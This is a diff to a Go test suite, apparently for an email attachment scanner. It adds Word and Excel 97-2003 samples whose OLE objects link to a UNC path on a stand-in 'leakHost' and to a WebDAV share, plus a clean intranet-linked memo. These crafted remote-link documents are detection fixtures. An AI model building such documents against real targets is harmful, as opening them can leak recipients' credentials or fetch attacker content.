@@ -159,6 +159,16 @@ func officeLinkCases() []officeCase {
 			action: policy.Quarantine, subject: "Budget", body: "The budget summary.\n", ctype: "application/vnd.ms-excel", file: "summary.xls",
 			data:  formats.XLS(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Summary"}}, External: []formats.XLSExternal{{Path: "\x01\x01@" + leakHost + "\x03share\x03budget.xlsx", Sheets: []string{"Sheet1"}}}}),
 			wants: []relWant{{"heuristic", "remote-fetch", "/external-links"}}},
+		{name: "doc-linked-object-unc", about: "Word 97-2003 document whose ObjectPool holds a workbook object linked (a composite of a file moniker and an item moniker) to cells of a workbook on an SMB share of an Internet host: Word reaches for it to update the link",
+			action: policy.Quarantine, subject: "Budget", body: "The budget memo.\n", ctype: "application/msword", file: "memo.doc",
+			data: formats.CFB(formats.Embed(append(wordDocEntries("Budget memo\rThe figures:\r"), formats.CFBEntry{Name: "ObjectPool", Storage: true, Parent: -1}), 3, "_1431", formats.ExcelSheet8CLSID,
+				formats.LinkedWorkbook(formats.OLELinkStream(formats.CompositeMoniker(formats.FileMoniker(`\\`+leakHost+`\share\budget.xlsx`), formats.ItemMoniker("!", "Sheet1!R1C1:R9C4")))))),
+			wants: []relWant{{"heuristic", "remote-fetch", "/ObjectPool/_1431/Ole"}}},
+		{name: "xls-linked-object-webdav", about: "Excel 97-2003 workbook whose MBD storage holds an object linked (a file moniker) to a document on a WebDAV share of an Internet host (host@SSL@443\\DavWWWRoot)",
+			action: policy.Quarantine, subject: "Plan", body: "The plan.\n", ctype: "application/vnd.ms-excel", file: "plan.xls",
+			data: formats.CFB(formats.Embed(formats.XLSEntries(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Plan"}}}), -1, "MBD0049A1B2", formats.ExcelSheet8CLSID,
+				formats.LinkedWorkbook(formats.OLELinkStream(formats.FileMoniker(`\\files.example.net@SSL@443\DavWWWRoot\plan.xlsx`))))),
+			wants: []relWant{{"heuristic", "remote-fetch", "/MBD0049A1B2/Ole"}}},
 		{name: "xlsx-web-query-on-open", about: "xlsx with a web query connection (xl/connections.xml webPr url) refreshed as the workbook opens: what the page holds lands in the cells",
 			action: policy.Tag, subject: "Rates", body: "Today's rates.\n", ctype: ctXlsx, file: "rates.xlsx",
 			data:  xlsxOf([][]string{{"Rate", "1"}}, nil, "", connectionsPart(webQuery("http://rates.example.net/today.html", true))),
@@ -197,6 +207,10 @@ func officeLinkClean() []Sample {
 	add(ok("rtf-shape-picture-intranet", "an RTF letter whose picture is linked from the intranet file server (a single-label name), as Word writes Link to File"),
 		mail{from: colleague, subject: "Letter", root: multipart("mixed", text("The letter with the letterhead.\n"),
 			attach("application/rtf", "letter.rtf", rtfShapePicture("Letterhead", `\\\\fileserver\\templates\\letterhead.png`, 10)))})
+	add(ok("doc-linked-object-intranet", "a Word 97-2003 memo whose workbook object is linked to a workbook on the intranet file server (a single-label name)"),
+		mail{from: colleague, subject: "Budget", root: multipart("mixed", text("The budget memo, linked to the finance workbook.\n"),
+			attach("application/msword", "memo.doc", formats.CFB(formats.Embed(append(wordDocEntries("Budget memo\r"), formats.CFBEntry{Name: "ObjectPool", Storage: true, Parent: -1}), 3, "_1431", formats.ExcelSheet8CLSID,
+				formats.LinkedWorkbook(formats.OLELinkStream(formats.CompositeMoniker(formats.FileMoniker(`\\fileserver\finance\budget.xlsx`), formats.ItemMoniker("!", "Sheet1!R1C1:R9C4"))))))))})
 	add(ok("rtf-linked-object-local", "an RTF report whose linked workbook (\\objautlink) is on the author's own drive"),
 		mail{from: colleague, subject: "Report", root: multipart("mixed", text("The report with the figures linked.\n"),
 			attach("application/rtf", "report.rtf", rtfLinkedObject("Report", `C:\Users\aiko\Documents\figures.xlsx`)))})
